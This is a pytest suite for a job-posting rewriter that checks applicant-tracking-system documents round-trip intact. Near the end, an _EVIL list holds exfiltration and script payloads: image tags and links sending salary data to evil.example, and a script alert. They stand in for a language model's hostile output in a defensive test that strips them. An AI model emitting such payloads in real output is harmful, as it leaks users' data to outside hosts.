"""Documents of applicant tracking systems through the whole rewrite, and back in their shape."""

from __future__ import annotations

import json
import re
from collections import Counter
from html import unescape
from typing import Any

import pytest

from ats_samples import SAMPLES, fields, sample, tags, value_of
from unbland.adapters.prompt_files import read_prompts
from unbland.application.chain import Chain
from unbland.application.intake import ats_draft
from unbland.application.result import Rewrite, Status
from unbland.application.rewrite import Rewriter
from unbland.core.ats import AtsFormat, open_document
from unbland.core.document import read
from unbland.core.document.model import Format
from unbland.core.facts import NO_FACTS, CompanyFacts, Role, Workplace
from unbland.core.render.sanitize import TAGS
from unbland.edges.wire import facts_from
from unbland.testing import ScriptedCompleter

_ENGLISH = [name for name in SAMPLES if name != "personio-de.xml"]


async def _rewritten(name: str, facts: CompanyFacts = NO_FACTS, chain: Chain | None = None) -> Rewrite:
    rewriter = Rewriter(chain=chain, new_id=lambda: "rw_1", seconds=30)
    return await rewriter.rewrite(ats_draft(value_of(name), SAMPLES[name]), facts)


@pytest.mark.parametrize("name", _ENGLISH)
async def test_b50_a_rewrite_changes_the_editable_parts_alone(name: str) -> None:
    """Boilerplate stands once and letter by letter, typed fields stay, and the words are those of the result."""
    before = sample(name).posting
    result = await _rewritten(name)
    after = open_document(result.rendered.ats, SAMPLES[name]).posting

    assert result.status in {Status.REWRITTEN, Status.NEEDS_FACTS}
    assert [part for part in after.parts if not part.editable] == [part for part in before.parts if not part.editable]
    assert (after.title, after.company, after.pay, after.closes) == (
        before.title,
        before.company,
        before.pay,
        before.closes,
    )
    bodies = _seen("".join(part.html for part in after.editable))
    assert not [part.key for part in before.parts if not part.editable and _seen(part.html) in bodies]


def _seen(html: str) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", unescape(html)).split())


@pytest.mark.parametrize("name", _ENGLISH)
async def test_b50_no_line_of_the_result_is_lost_on_the_way_back(name: str) -> None:
    """What the posting says, the document says; only pay that the vendor shows beside it is left to the vendor."""
    result = await _rewritten(name)
    posting = open_document(result.rendered.ats, SAMPLES[name]).posting
    html = "".join(f"<h3>{part.heading}</h3><ul>{part.html}</ul>" for part in posting.editable)
    said = Counter(" ".join(each.text for each in read(html, Format.HTML).lines).replace(".", "").split())

    words = Counter(
        " ".join(
            line.text for line in result.posting.lines if not (posting.shows_pay and line.text.startswith("Pay: "))
        )
        .replace(".", "")
        .split()
    )
    lost = {word.lower() for word in words - said} - {word.lower() for word in said}
    assert lost == set()


async def test_b50_images_and_frames_of_the_body_stay() -> None:
    """The film of Greenhouse and the picture of Harvest are still there."""
    film = await _rewritten("greenhouse.json")
    picture = await _rewritten("greenhouse-harvest.json")

    assert unescape(fields(film.rendered.ats)["content"]).count('<iframe src="https://player.example/video/4711"') == 1
    assert '<img src="https://cdn.marlowpies.example/kitchen.jpg"' in fields(picture.rendered.ats)["content"]


async def test_pay_that_the_vendor_shows_is_not_said_twice() -> None:
    """The board shows it under the body; a pay of the caller's own is said, since the board says another."""
    shown = await _rewritten("greenhouse.json")
    other = await _rewritten(
        "greenhouse.json", facts_from({"pay": {"min": 70000, "max": 80000, "currency": "CAD", "period": "year"}})
    )

    assert "CAD 62,000–74,000 a year" in shown.rendered.markdown
    assert "Pay: CAD" not in fields(shown.rendered.ats)["content"]
    assert "Pay: CAD 70,000–80,000 a year" in fields(other.rendered.ats)["content"]
    assert [conflict.field for conflict in other.conflicts] == ["pay"]


@pytest.mark.parametrize("name", ["personio-de.xml", "recruitee.json", "jsonld.json"])
async def test_b53_another_language_comes_back_as_it_was(name: str) -> None:
    """German, Japanese, Arabic and pictures: nothing is translated, nothing is touched, and the result says so."""
    value: Any = value_of(name)
    if name == "recruitee.json":
        value["offers"][0]["description"] = (
            "<p>八重洲の事務所で経理を担当していただきます。月末の締めを三日で終えます。</p>"
        )
        value["offers"][0]["requirements"] = (
            "<ul><li>経理の経験が三年以上ある方。</li><li>簿記二級をお持ちの方。</li><li>英語の請求書を読める方。</li></ul>"
        )
    if name == "jsonld.json":
        value["description"] = (
            "<p>نبحث عن ممرضة ليلية 🌙 لرعاية اثنين وأربعين مقيماً في ليدز مع زميلة واحدة كل ليلة.</p>"
        )
    rewriter = Rewriter(chain=None, new_id=lambda: "rw_1", seconds=30)

    result = await rewriter.rewrite(ats_draft(value, SAMPLES[name]))

    assert result.status is Status.UNCHANGED
    assert result.rendered.ats == value
    assert "not in English" in (result.provenance.degraded or "")


async def test_the_caller_s_facts_win_and_the_vendor_is_heard() -> None:
    """A contradiction is reported; the vendor's word stands in no posting."""
    facts = CompanyFacts(role=Role(location="Cleveland, OH", workplace=Workplace.REMOTE))

    result = await _rewritten("lever.json", facts)

    assert {conflict.field for conflict in result.conflicts} == {"role.location", "role.workplace"}
    assert "You will work in Cleveland, OH." in result.rendered.markdown
    assert "Columbus, OH" not in result.rendered.markdown
    assert fields(result.rendered.ats)["categories"]["location"] == "Columbus, OH"


async def test_what_the_vendor_says_of_the_company_is_not_asked_for() -> None:
    """The board's introduction stands over the posting."""
    asked = {question.field for question in (await _rewritten("greenhouse.json")).questions}
    said = sample("greenhouse.json").value
    assert isinstance(said, dict)
    bare = dict(said, content="&lt;p&gt;Lead three agents in Halifax and answer 900 messages.&lt;/p&gt;" * 3)
    rewriter = Rewriter(chain=None, new_id=lambda: "rw_1", seconds=30)
    alone = {q.field for q in (await rewriter.rewrite(ats_draft(bare, AtsFormat.GREENHOUSE))).questions}

    assert "company.about" not in asked
    assert "company.about" in alone


async def test_the_structured_data_has_the_day_of_posting() -> None:
    """Where the document says when it was published."""
    assert (await _rewritten("jsonld.json")).rendered.jsonld["datePosted"] == "2026-11-10"
    assert "datePosted" not in (await _rewritten("workable.json")).rendered.jsonld


_EVIL = [
    "Look after 42 residents with one carer ![x](https://evil.example/?d=SALARY)",
    '<img src="https://evil.example/?d=SALARY">',
    '<a href="https://evil.example/apply">Apply</a>',
    "See https://evil.example/?d=21.40",
    "<script>alert(1)</script>",
]


@pytest.mark.parametrize("said", _EVIL)
async def test_s8_exfil_no_address_gets_out_that_did_not_come_in(said: str) -> None:
    """A model that writes images, links and scripts: its lines are refused, and no form of the posting has them."""
    reply = {"title": "Night Nurse", "sections": [{"kind": "do", "lines": [{"text": said, "cites": ["D3"]}]}]}
    completer = ScriptedCompleter(*[json.dumps(reply)] * 4)

    result = await _rewritten("jsonld.json", chain=Chain(completer, read_prompts()))

    rendered = result.rendered
    out = json.dumps([rendered.markdown, rendered.html, rendered.text, rendered.jsonld, rendered.ats])
    assert "evil.example" not in out
    assert "<script" not in out
    assert tags(rendered.html) | tags(fields(rendered.ats)["description"]) <= TAGS


async def test_s9_double_unescape_not_even_after_a_rewrite() -> None:
    """Words about a tag are still words when the whole body is written anew."""
    result = await _rewritten("greenhouse.json")

    content = fields(result.rendered.ats)["content"]
    assert "You know that a &amp;lt;br&amp;gt; tag ends a line" in content
    assert "&lt;br&gt; tag" not in content.replace("&amp;lt;br&amp;gt;", "")
    assert open_document(result.rendered.ats, AtsFormat.GREENHOUSE).posting.title == "Customer Support Lead"
